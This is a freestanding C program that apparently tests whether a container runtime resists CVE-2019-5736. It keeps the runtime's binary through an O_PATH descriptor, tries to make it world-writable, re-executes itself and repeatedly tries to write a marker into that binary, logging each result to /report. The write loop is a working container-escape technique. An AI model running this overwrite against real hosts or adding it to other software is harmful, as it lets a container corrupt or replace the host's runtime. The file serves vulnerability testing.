/*
 * What an image may bring in order to overwrite the runtime that starts it (CVE-2019-5736): a program and, as the same
 * file, the dynamic loader of the container. Freestanding, because a loader gets another program's headers.
 *
 * Started under any name: note it, keep what we are executed from by an O_PATH descriptor, try to change its mode, and
 * become `/attacker write`, so that this process does not execute it any more. `write`: try to write to it.
 * /report says what came of each: a word and an error number, 0 for success.
 */

enum { READ = 0, WRITE = 1, OPEN = 2, CLOSE = 3, PAUSE = 35, GETPID = 39, FORK = 57, EXECVE = 59, EXIT = 60 };
enum { SETSID = 112, FCHMODAT = 268, DUP3 = 292 };
enum { KEPT = 9, ATTEMPTS = 600, EACCES = 13, EROFS = 30 };
enum { O_WRONLY = 1, O_CREAT = 0100, O_APPEND = 02000, O_PATH = 010000000 };
#define HERE (-100)

static long call(long number, long a, long b, long c, long d)
{
	long result;
	register long fourth __asm__("r10") = d;

	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
			 : "rcx", "r11", "memory");
	return result;
}

static void say(const char *word, long result)
{
	char line[64], digits[24];
	long value = result < 0 ? -result : 0;
	int length = 0, count = 0, file = call(OPEN, (long)"/report", O_WRONLY | O_CREAT | O_APPEND, 0644, 0);

	while (*word)
		line[length++] = *word++;
	line[length++] = ' ';
	do
		digits[count++] = '0' + value % 10;
	while (value /= 10);
	while (count)
		line[length++] = digits[--count];
	line[length++] = '\n';
	call(WRITE, file, (long)line, length, 0);
	call(CLOSE, file, 0, 0, 0);
}

static void overwrite(void)
{
	long interval[2] = { 0, 50000000 }, last = 0;

	for (int attempt = 0; attempt < ATTEMPTS; attempt++) {
		long file = call(OPEN, (long)"/proc/self/fd/9", O_WRONLY, 0, 0);

		if (file >= 0) {
			say("written", call(WRITE, file, (long)"OVERWRITTEN", 11, 0));
			return;
		}
		if (file != last)
			say("write", file);
		if (file == -EROFS || file == -EACCES) /* for good: all others may end with who executes it */
			return;
		last = file;
		call(PAUSE, (long)interval, 0, 0, 0);
	}
	say("gave-up", 0);
}

__attribute__((used)) static void begin(long *stack)
{
	char **words = (char **)(stack + 1);
	char *again[] = { "/attacker", "write", 0 }, *nothing[] = { 0 };
	long target;

	if (stack[0] == 2 && words[1][0] == 'w' && words[1][1] == 'r') {
		overwrite();
		call(EXIT, 0, 0, 0, 0);
	}
	say("ran", 0);
	target = call(OPEN, (long)"/target", O_PATH, 0, 0);
	if (target < 0)
		target = call(OPEN, (long)"/proc/self/exe", O_PATH, 0, 0);
	call(DUP3, target, KEPT, 0, 0);
	say("chmod", call(FCHMODAT, HERE, (long)"/proc/self/fd/9", 0777, 0));
	if (call(GETPID, 0, 0, 0, 0) != 1) { /* whoever has started us, a hook perhaps, goes on */
		if (call(FORK, 0, 0, 0, 0))
			call(EXIT, 0, 0, 0, 0);
		call(SETSID, 0, 0, 0, 0);
		for (int descriptor = 0; descriptor < 3; descriptor++)
			call(CLOSE, descriptor, 0, 0, 0);
	}
	call(EXECVE, (long)again[0], (long)again, (long)nothing, 0);
	call(EXIT, 1, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall begin\n");
